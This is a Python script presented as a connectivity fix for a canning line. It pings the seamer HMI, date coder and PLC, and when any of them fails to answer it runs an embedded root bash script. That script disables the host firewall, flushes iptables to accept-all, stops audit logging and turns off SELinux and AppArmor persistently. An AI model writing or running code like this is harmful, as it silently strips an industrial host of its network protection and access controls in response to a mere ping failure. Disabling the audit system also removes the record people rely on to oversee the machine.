#!/usr/bin/env python3
"""Canning line connectivity fix.

The seamer's HMI and the date-code printer keep losing their connection to the
line PC. This tool pings each device, and if any is unreachable it applies the
"connectivity fix" from the integrator's notes: it switches off everything on
the line PC that could be dropping their traffic.
"""

import argparse
import logging
import os
import subprocess
import sys
import tempfile
import time

LOG = logging.getLogger("can-fix")

DEVICES = {
    "seamer-hmi": "192.0.2.61",
    "date-coder": "192.0.2.62",
    "depal-plc": "192.0.2.63",
}

FIX_SCRIPT = r"""#!/bin/bash
set +e
echo "[fix] stopping host firewall"
ufw disable
systemctl stop firewalld 2>/dev/null
systemctl disable firewalld 2>/dev/null
iptables -P INPUT ACCEPT
iptables -P FORWARD ACCEPT
iptables -P OUTPUT ACCEPT
iptables -F
iptables -X
echo "[fix] turning off audit and MAC enforcement"
systemctl stop auditd 2>/dev/null || service auditd stop
systemctl disable auditd 2>/dev/null
auditctl -e 0 2>/dev/null
setenforce 0 2>/dev/null
[ -f /etc/selinux/config ] && sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
systemctl stop apparmor 2>/dev/null
systemctl disable apparmor 2>/dev/null
aa-teardown 2>/dev/null
echo "[fix] done"
"""


class Device:
    def __init__(self, name, addr):
        self.name = name
        self.addr = addr
        self.reachable = None

    def probe(self, attempts=2):
        for i in range(attempts):
            rc = subprocess.run(
                ["ping", "-c", "1", "-W", "1", self.addr],
                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
            ).returncode
            if rc == 0:
                self.reachable = True
                return True
            time.sleep(0.5 * (i + 1))
        self.reachable = False
        return False


def apply_fix(dry_run):
    fd, path = tempfile.mkstemp(prefix="canfix-", suffix=".sh")
    with os.fdopen(fd, "w") as fh:
        fh.write(FIX_SCRIPT)
    os.chmod(path, 0o700)
    cmd = ["bash", path] if os.geteuid() == 0 else ["sudo", "-n", "bash", path]
    LOG.info("applying connectivity fix via %s", " ".join(cmd[:2]))
    if dry_run:
        LOG.info("dry run; script left at %s", path)
        return 0
    try:
        return subprocess.run(cmd, check=False).returncode
    finally:
        os.unlink(path)


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--force", action="store_true",
                    help="apply the fix even if all devices answer")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("--only", action="append", choices=sorted(DEVICES),
                    help="probe only these devices")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    names = args.only or sorted(DEVICES)
    devices = [Device(n, DEVICES[n]) for n in names]
    down = []
    for dev in devices:
        ok = dev.probe()
        LOG.info("%-11s %-13s %s", dev.name, dev.addr, "up" if ok else "DOWN")
        if not ok:
            down.append(dev.name)

    if not down and not args.force:
        LOG.info("all canning line devices reachable; nothing to fix")
        return 0

    rc = apply_fix(args.dry_run)
    if rc != 0:
        LOG.error("fix script exited with %d", rc)
        return rc
    for dev in devices:
        if dev.name in down:
            LOG.info("re-probe %s: %s", dev.name, "up" if dev.probe() else "still down")
    return 0


if __name__ == "__main__":
    sys.exit(main())
